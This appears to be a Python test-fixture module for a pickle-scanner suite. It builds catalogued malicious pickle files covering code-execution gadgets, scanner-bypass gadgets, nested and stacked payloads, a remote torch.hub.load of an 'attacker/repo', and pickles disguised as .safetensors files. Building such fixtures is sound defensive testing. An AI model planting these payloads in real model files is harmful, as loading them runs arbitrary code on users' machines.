"""Malicious pickle streams: protocols, opcode forms, gadgets, nested and stacked payloads."""

# ruff: noqa: PLC0415 - heavy ML libraries are imported only by the builders that need them
from __future__ import annotations

import base64
import marshal
import os
import pickle
import struct
import zlib
from pathlib import Path

from tests.scanners import pickle_asm as asm
from tests.scanners.malicious_registry import (
    DANGEROUS,
    Reduce,
    cmd,
    py,
    system_pickle,
    technique,
)


# --- pickle protocols and opcode forms -----------------------------------------------------------------
@technique(
    "p0_os_system",
    "p0.pkl",
    "protocol 0 GLOBAL os.system + REDUCE",
    "Trail of Bits 2021 'Never a dill moment'",
    DANGEROUS,
)
def _p0(out: Path, marker: Path) -> None:
    out.write_bytes(asm.glob("os", "system") + asm.MARK + asm.string0(cmd(marker)) + b"tR.")


@technique(
    "p1_posix_system",
    "p1.pkl",
    "protocol 1 pickle.dumps of a __reduce__ payload",
    "CVE-2019-6446 class",
    DANGEROUS,
)
def _p1(out: Path, marker: Path) -> None:
    out.write_bytes(pickle.dumps(Reduce(os.system, cmd(marker)), protocol=1))


@technique(
    "p2_subprocess_popen",
    "p2.pkl",
    "protocol 2 subprocess.Popen",
    "JFrog 2024 malicious HF models",
    DANGEROUS,
)
def _p2(out: Path, marker: Path) -> None:
    import subprocess

    out.write_bytes(pickle.dumps(Reduce(subprocess.Popen, ["touch", str(marker)]), protocol=2))


@technique("p3_builtins_exec", "p3.pkl", "protocol 3 builtins.exec", "picklescan builtins list", DANGEROUS)
def _p3(out: Path, marker: Path) -> None:
    out.write_bytes(pickle.dumps(Reduce(exec, py(marker)), protocol=3))


@technique("p4_builtins_eval", "p4.pkl", "protocol 4 builtins.eval", "picklescan builtins list", DANGEROUS)
def _p4(out: Path, marker: Path) -> None:
    out.write_bytes(pickle.dumps(Reduce(eval, py(marker)), protocol=4))


@technique("p5_subprocess_run", "p5.pkl", "protocol 5 subprocess.run", "modelscan unsafe globals", DANGEROUS)
def _p5(out: Path, marker: Path) -> None:
    import subprocess

    out.write_bytes(pickle.dumps(Reduce(subprocess.run, ["touch", str(marker)]), protocol=5))


@technique(
    "inst_opcode",
    "inst.pkl",
    "INST opcode (import and call in one)",
    "picklescan issue #13 (Doyensec)",
    DANGEROUS,
)
def _inst(out: Path, marker: Path) -> None:
    out.write_bytes(asm.MARK + asm.string0(py(marker)) + b"ibuiltins\nexec\n.")


@technique("obj_opcode", "obj.pkl", "OBJ opcode calling os.system", "fickling opcode coverage", DANGEROUS)
def _obj(out: Path, marker: Path) -> None:
    out.write_bytes(asm.proto(2) + asm.MARK + asm.glob("os", "system") + asm.text(cmd(marker)) + b"o.")


@technique(
    "memo_confusion",
    "memo.pkl",
    "BINPUT/MEMOIZE mix hides STACK_GLOBAL operands",
    "picklescan issue #14; GHSA-9gvj-pp9x-gcfr",
    DANGEROUS,
)
def _memo(out: Path, marker: Path) -> None:
    body = (
        asm.text("os") + asm.binput(1) + asm.text("system") + asm.binput(0) + asm.POP + asm.POP
        + asm.text("torch._utils") + asm.MEMOIZE + asm.text("_rebuild_tensor") + asm.MEMOIZE
        + asm.POP + asm.POP + asm.binget(1) + asm.binget(0) + asm.STACK_GLOBAL
        + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE
    )  # fmt: skip
    out.write_bytes(asm.program(body))


@technique(
    "protocol0_strings_stack_global",
    "p0sg.pkl",
    "STACK_GLOBAL fed by protocol-0 STRING opcodes",
    "modelscan PR #313",
    DANGEROUS,
)
def _p0sg(out: Path, marker: Path) -> None:
    body = (
        asm.string0("os")
        + asm.string0("system")
        + asm.STACK_GLOBAL
        + asm.MARK
        + asm.string0(cmd(marker))
        + b"tR"
    )
    out.write_bytes(asm.program(body))


@technique(
    "dotted_attribute_path",
    "dotted.pkl",
    "STACK_GLOBAL torch / serialization.os.system",
    "fickling GHSA-q5qq-mvfm-j35x",
    DANGEROUS,
    "pickle.attribute-path",
)
def _dotted(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("torch", "serialization.os.system"), asm.text(cmd(marker))))
    )


@technique(
    "getattr_import_chain",
    "getattr.pkl",
    "builtins.getattr(__import__('os'), 'system')(cmd)",
    "picklescan getattr entry; GHSA-7wx9-6375-f5wh",
    DANGEROUS,
)
def _getattr(out: Path, marker: Path) -> None:
    module = asm.call(asm.stack_global("builtins", "__import__"), asm.text("os"))
    function = asm.call(asm.stack_global("builtins", "getattr"), module, asm.text("system"))
    out.write_bytes(asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE))


@technique(
    "operator_attrgetter",
    "attrgetter.pkl",
    "operator.attrgetter on an imported module",
    "GHSA-m273-6v24-x4m4",
    DANGEROUS,
)
def _attrgetter(out: Path, marker: Path) -> None:
    getter = asm.call(asm.stack_global("operator", "attrgetter"), asm.text("system"))
    module = asm.call(asm.stack_global("importlib", "import_module"), asm.text("os"))
    function = getter + asm.MARK + module + asm.TUPLE + asm.REDUCE
    out.write_bytes(asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE))


@technique(
    "operator_methodcaller",
    "methodcaller.pkl",
    "_operator.methodcaller('system', cmd)(os)",
    "GHSA-955r-x9j8-7rhh",
    DANGEROUS,
)
def _methodcaller(out: Path, marker: Path) -> None:
    caller = asm.call(
        asm.stack_global("_operator", "methodcaller"), asm.text("system"), asm.text(cmd(marker))
    )
    module = asm.call(asm.stack_global("importlib", "import_module"), asm.text("os"))
    out.write_bytes(asm.program(caller + asm.MARK + module + asm.TUPLE + asm.REDUCE))


@technique(
    "functools_partial",
    "partial.pkl",
    "functools.partial(os.system, cmd)()",
    "picklescan functools.partial entry",
    DANGEROUS,
)
def _partial(out: Path, marker: Path) -> None:
    part = asm.call(
        asm.stack_global("functools", "partial"), asm.stack_global("os", "system"), asm.text(cmd(marker))
    )
    out.write_bytes(asm.program(part + asm.EMPTY_TUPLE + asm.REDUCE))


@technique(
    "pydoc_locate", "pydoc.pkl", "pydoc.locate('os.system')(cmd)", "picklescan GHSA (pydoc)", DANGEROUS
)
def _pydoc(out: Path, marker: Path) -> None:
    function = asm.call(asm.stack_global("pydoc", "locate"), asm.text("os.system"))
    out.write_bytes(asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE))


@technique(
    "pkgutil_resolve_name",
    "pkgutil.pkl",
    "pkgutil.resolve_name universal bypass",
    "GHSA-vvpj-8cmc-gx39 (CVSS 10)",
    DANGEROUS,
)
def _pkgutil(out: Path, marker: Path) -> None:
    function = asm.call(asm.stack_global("pkgutil", "resolve_name"), asm.text("os:system"))
    out.write_bytes(asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE))


@technique(
    "importlib_import_module",
    "importlib.pkl",
    "importlib.import_module + getattr",
    "picklescan PR #74",
    DANGEROUS,
)
def _importlib(out: Path, marker: Path) -> None:
    module = asm.call(asm.stack_global("importlib", "import_module"), asm.text("os"))
    function = asm.call(asm.glob("__builtin__", "getattr"), module, asm.text("system"))
    out.write_bytes(
        asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE, version=2)
    )


@technique("runpy_run_code", "runpy.pkl", "runpy._run_code(source)", "picklescan runpy entry", DANGEROUS)
def _runpy(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("runpy", "_run_code"), asm.text(py(marker)), asm.EMPTY_DICT))
    )


@technique(
    "marshal_code_object",
    "marshal.pkl",
    "marshal.loads + types.FunctionType",
    "picklescan PR #74; ModelAudit types.CodeType",
    DANGEROUS,
)
def _marshal(out: Path, marker: Path) -> None:
    code = marshal.dumps(compile(py(marker), "<x>", "exec"))
    code_obj = asm.call(asm.stack_global("marshal", "loads"), asm.binbytes(code))
    function = asm.call(asm.stack_global("types", "FunctionType"), code_obj, asm.EMPTY_DICT)
    out.write_bytes(asm.program(function + asm.EMPTY_TUPLE + asm.REDUCE))


@technique("cprofile_run", "cprofile.pkl", "cProfile.run(statement)", "GHSA-46h3-79wf-xr6c", DANGEROUS)
def _cprofile(out: Path, marker: Path) -> None:
    out.write_bytes(asm.program(asm.call(asm.stack_global("cProfile", "run"), asm.text(py(marker)))))


@technique("timeit_statement", "timeit.pkl", "timeit.timeit(statement)", "GHSA-4675-36f9-wf6r", DANGEROUS)
def _timeit(out: Path, marker: Path) -> None:
    out.write_bytes(asm.program(asm.call(asm.stack_global("timeit", "timeit"), asm.text(py(marker)))))


@technique(
    "torch_hub_load", "hub.pt", "torch.hub.load of a remote repo", "ModelAudit torch.hub rule", DANGEROUS
)
def _hub(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("torch.hub", "load"), asm.text("attacker/repo"), asm.text("x")))
    )


@technique(
    "torch_collect_env_run",
    "collect_env.pt",
    "torch.utils.collect_env.run(cmd)",
    "picklescan GHSA (torch helpers)",
    DANGEROUS,
)
def _collect_env(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("torch.utils.collect_env", "run"), asm.text(cmd(marker))))
    )


@technique(
    "torch_inductor_compile_file",
    "inductor.pt",
    "torch._inductor.codecache.compile_file",
    "picklescan GHSA-6556-fwc2-fg2p",
    DANGEROUS,
)
def _inductor(out: Path, marker: Path) -> None:
    cmd_list = b"]" + asm.MARK + asm.text("sh") + asm.text("-c") + asm.text(cmd(marker)) + b"e"
    out.write_bytes(
        asm.program(
            asm.call(
                asm.stack_global("torch._inductor.codecache", "compile_file"),
                asm.text(""),
                asm.text(""),
                cmd_list,
            )
        )
    )


@technique(
    "numpy_testing_runstring",
    "runstring.pkl",
    "numpy.testing._private.utils.runstring (exec)",
    "picklescan numpy.testing entry",
    DANGEROUS,
)
def _runstring(out: Path, marker: Path) -> None:
    target = asm.stack_global("numpy.testing._private.utils", "runstring")
    out.write_bytes(asm.program(asm.call(target, asm.text(py(marker)), asm.EMPTY_DICT)))


@technique(
    "numpy_ufunc_reconstruct",
    "ufunc.pkl",
    "numpy._core._ufunc_reconstruct('os','system') import gadget",
    "hubgate research (numpy ufunc pickling)",
    DANGEROUS,
)
def _ufunc(out: Path, marker: Path) -> None:
    function = asm.call(
        asm.stack_global("numpy._core", "_ufunc_reconstruct"), asm.text("os"), asm.text("system")
    )
    out.write_bytes(asm.program(function + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE))


@technique(
    "pip_main", "pip.pkl", "pip.main installs an attacker package", "CVE-2025-1716 (Sonatype)", DANGEROUS
)
def _pip(out: Path, marker: Path) -> None:
    args = b"]" + asm.MARK + asm.text("--version") + asm.text("--log") + asm.text(str(marker)) + b"e"
    out.write_bytes(asm.program(asm.call(asm.stack_global("pip", "main"), args)))


@technique(
    "webbrowser_open",
    "webbrowser.pkl",
    "webbrowser.open (drive-by download)",
    "modelscan HIGH list",
    DANGEROUS,
)
def _webbrowser(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("webbrowser", "open"), asm.text(f"file://{marker}")))
    )


@technique(
    "subprocess_check_output",
    "check_output.pkl",
    "subprocess.check_output",
    "modelscan subprocess rule",
    DANGEROUS,
)
def _check_output(out: Path, marker: Path) -> None:
    args = b"]" + asm.MARK + asm.text("touch") + asm.text(str(marker)) + b"e"
    out.write_bytes(asm.program(asm.call(asm.stack_global("subprocess", "check_output"), args)))


@technique(
    "os_popen_posix_spawn",
    "popen.pkl",
    "os.popen via the posix module name",
    "picklescan nt/posix aliases",
    DANGEROUS,
)
def _popen(out: Path, marker: Path) -> None:
    out.write_bytes(asm.program(asm.call(asm.glob("posix", "popen"), asm.text(cmd(marker))), version=2))


@technique("pty_spawn", "pty.pkl", "pty.spawn", "fickling PR #108", DANGEROUS)
def _pty(out: Path, marker: Path) -> None:
    out.write_bytes(asm.glob("pty", "spawn") + asm.MARK + asm.string0(cmd(marker)) + b"tR.")


@technique(
    "asyncio_subprocess", "asyncio.pkl", "asyncio subprocess transport", "CVE-2025-10157 (JFrog)", DANGEROUS
)
def _asyncio(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(
            asm.call(
                asm.stack_global("asyncio.unix_events", "_UnixSubprocessTransport"), asm.text(cmd(marker))
            )
        )
    )


@technique(
    "shutil_copy_write",
    "shutil.pkl",
    "shutil.copyfile writes an attacker-chosen file",
    "picklescan shutil entry",
    DANGEROUS,
)
def _shutil(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(
            asm.call(asm.stack_global("shutil", "copyfile"), asm.text("/dev/null"), asm.text(str(marker)))
        )
    )


@technique(
    "pathlib_write_text",
    "pathlib.pkl",
    "pathlib.Path.write_text through a dotted name",
    "ModelAudit file-write rules",
    "pickle.attribute-path",
    DANGEROUS,
)
def _pathlib(out: Path, marker: Path) -> None:
    path = asm.call(asm.stack_global("pathlib", "Path"), asm.text(str(marker)))
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("pathlib", "Path.write_text"), path, asm.text("x")))
    )


@technique(
    "logging_filehandler", "filehandler.pkl", "logging.FileHandler creates files", "CVE-2026-56304", DANGEROUS
)
def _filehandler(out: Path, marker: Path) -> None:
    out.write_bytes(asm.program(asm.call(asm.stack_global("logging", "FileHandler"), asm.text(str(marker)))))


@technique(
    "uuid_command_stdout", "uuid.pkl", "uuid._get_command_stdout runs a command", "CVE-2026-56315", DANGEROUS
)
def _uuid(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(
            asm.call(
                asm.stack_global("uuid", "_get_command_stdout"), asm.text("touch"), asm.text(str(marker))
            )
        )
    )


@technique(
    "codecs_rot13_names",
    "rot13.pkl",
    "module name computed with _codecs.encode(rot13)",
    "hubgate research (computed names)",
    "pickle.dynamic-import",
    "pickle.codec-abuse",
)
def _rot13(out: Path, marker: Path) -> None:
    module = asm.call(asm.stack_global("_codecs", "encode"), asm.text("bf"), asm.text("rot13"))
    name = asm.call(asm.stack_global("_codecs", "encode"), asm.text("flfgrz"), asm.text("rot13"))
    out.write_bytes(
        asm.program(
            module + name + asm.STACK_GLOBAL + asm.MARK + asm.text(cmd(marker)) + asm.TUPLE + asm.REDUCE
        )
    )


@technique(
    "cloudpickle_make_function",
    "cloudpickle.pkl",
    "cloudpickle function reconstruction",
    "picklescan cloudpickle entry",
    DANGEROUS,
)
def _cloudpickle(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("cloudpickle.cloudpickle", "subimport"), asm.text("os")))
    )


# --- nested and stacked pickles ---------------------------------------------------------------------
@technique(
    "nested_pickle_loads",
    "nested.pkl",
    "pickle.loads(bytes) of a second payload",
    "GHSA-84r2-jw7c-4r5q",
    DANGEROUS,
    "pickle.nested-payload",
)
def _nested(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.program(asm.call(asm.stack_global("pickle", "loads"), asm.binbytes(system_pickle(marker))))
    )


@technique(
    "nested_base64_zlib",
    "b64zlib.pkl",
    "pickle.loads(zlib.decompress(b64decode(text)))",
    "Sonatype nested-payload write-up",
    DANGEROUS,
    "pickle.nested-payload",
)
def _b64zlib(out: Path, marker: Path) -> None:
    text = base64.b64encode(zlib.compress(system_pickle(marker))).decode()
    decoded = asm.call(asm.stack_global("base64", "b64decode"), asm.text(text))
    inflated = asm.call(asm.stack_global("zlib", "decompress"), decoded)
    out.write_bytes(asm.program(asm.call(asm.stack_global("pickle", "loads"), inflated)))


@technique(
    "second_pickle_after_stop",
    "stacked.pkl",
    "benign pickle, then a payload after STOP",
    "picklescan multiple-pickle handling",
    DANGEROUS,
)
def _stacked(out: Path, marker: Path) -> None:
    out.write_bytes(pickle.dumps({"weights": [1, 2, 3]}) + system_pickle(marker))


@technique(
    "payload_before_broken_opcode",
    "broken.pkl",
    "payload runs, then an invalid opcode breaks the stream",
    "ReversingLabs nullifAI (2025)",
    DANGEROUS,
)
def _broken(out: Path, marker: Path) -> None:
    out.write_bytes(
        asm.proto(2) + asm.call(asm.glob("os", "system"), asm.text(cmd(marker))) + b"\xff\xfe garbage"
    )


@technique(
    "extension_confusion",
    "model.safetensors",
    "pickle named .safetensors",
    "CVE-2025-1889; CVE-2025-10155 (JFrog)",
    DANGEROUS,
)
def _ext_confusion(out: Path, marker: Path) -> None:
    out.write_bytes(system_pickle(marker))


@technique(
    "no_extension_blob",
    "5f2b9c0d4e",
    "pickle stored under a digest (no extension)",
    "hubgate storage model",
    DANGEROUS,
)
def _no_ext(out: Path, marker: Path) -> None:
    out.write_bytes(system_pickle(marker, version=2))


@technique(
    "stop_inside_frame",
    "framed.pkl",
    "a benign pickle STOPs inside its FRAME; the next load on a BytesIO starts at the frame's end",
    "CPython _pickle framing (Unpickler on BytesIO resumes after the frame); found by fuzzing, issue #11",
    DANGEROUS,
)
def _stop_inside_frame(out: Path, marker: Path) -> None:
    body = b"}\x94." + b"\xff" * 8  # an empty dict, STOP, then bytes no unpickler reads as opcodes
    out.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + system_pickle(marker))
